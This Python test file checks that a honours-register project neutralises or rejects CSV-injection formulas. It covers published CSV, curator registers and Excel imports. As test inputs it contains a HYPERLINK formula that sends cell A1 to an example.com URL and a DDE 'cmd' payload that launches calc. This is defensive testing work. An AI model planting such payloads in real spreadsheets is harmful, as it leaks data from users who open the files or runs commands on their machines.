"""Spreadsheet formulas (CSV injection): neutralised in published CSV, refused in the registers curators keep,
and a formula whose value a spreadsheet never worked out is reported, not dropped."""
from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest

from hall.formulas import formula_like, neutralised
from hall.opendata import exhibits_csv, exhibits_json

from .conftest import PERSON
from .test_roster import cli, importing

HYPERLINK = '=HYPERLINK("http://example.com/?"&A1,"点这里")'


@pytest.mark.parametrize("text, expected", [
    ("=1+1", True), ("+cmd|' /C calc'!A0", True), ("-2+3", True), ("@SUM(A1)", True), ("\t=1", True), ("\r=1", True),
    ("-", False), ("嘉善县", False), ("", False), ("全国劳动模范", False), ("'=1", False), (" =1", False),
])
def test_formula_like_cells(text, expected):
    assert formula_like(text) is expected
    assert neutralised(text) == ("'" + text if expected else text)


def test_a_formula_summary_is_published_as_text_in_the_csv_and_as_written_in_the_json(small_hall):
    small_hall.add("people/chai-jinfu.md", PERSON.replace("summary: 嘉善鲜切花种植第一人，带动周边农户发展现代农业。",
                                                          f"summary: '{HYPERLINK}'"))
    hall = small_hall.load()
    assert not hall.report.errors, hall.report.format_text()
    rows = list(csv.DictReader(io.StringIO(exhibits_csv(hall, {}).lstrip("\ufeff"))))
    chai = next(r for r in rows if r["slug"] == "chai-jinfu")
    assert chai["summary"] == "'" + HYPERLINK
    assert not [value for r in rows for value in r.values() if formula_like(value)]
    data = json.loads(exhibits_json(hall, {}, "馆"))["exhibits"]
    assert next(e for e in data if e["slug"] == "chai-jinfu")["summary"] == HYPERLINK  # JSON is not a spreadsheet


def test_a_register_with_a_formula_cell_fails_check(small_hall):
    (small_hall.exhibits / "registers").mkdir()
    (small_hall.exhibits / "registers" / "r.csv").write_text(
        "\ufeff姓名,荣誉称号,授予年份,工作单位\r\n张伟,全国劳动模范,2015,甲厂\r\n李强,浙江工匠,2020,-2+3\r\n"
        "王芳,浙江工匠,2021,-\r\n", encoding="utf-8", newline="")
    result = cli(small_hall.root, "check")
    assert result.returncode == 1, result.stdout
    errors = [line for line in result.stdout.splitlines() if " 错误 " in line]
    assert errors == ["exhibits/registers/r.csv:3: 错误 E709 “工作单位”的格子“-2+3”以“-”开头，用 Excel 或 WPS 打开名录时"
                      "会被当作公式运行（名录里不能有公式：是文字就删掉开头的“-”；是公式就在 Excel 中把它换成算出的值"
                      "（复制这一格，“选择性粘贴”→“数值”））"], result.stdout  # a lone "-" (none) is text


def test_import_reports_a_formula_looking_text_cell_with_its_row_and_writes_nothing_of_it(small_hall, tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["2024 年名单"])
    sheet.append(["姓名", "荣誉称号", "获评年份", "单位"])
    sheet.append(["张伟", "全国劳动模范", 2015, "甲厂"])
    sheet.append(["李强", "浙江工匠", 2020, "+cmd|' /C calc'!A0"])  # text (openpyxl stores only "=" as a formula)
    book.save(tmp_path / "名单.xlsx")
    code, output = importing(small_hall, tmp_path / "名单.xlsx")
    assert code == 1 and f"{tmp_path / '名单.xlsx'}:4: 错误 E709 “工作单位”的格子“+cmd|' /C calc'!A0”以“+”开头" in output
    assert "跳过 1 行有错误" in output
    written = (small_hall.exhibits / "registers" / "ming-dan.csv").read_text(encoding="utf-8-sig")
    assert "张伟" in written and "李强" not in written and "cmd" not in written
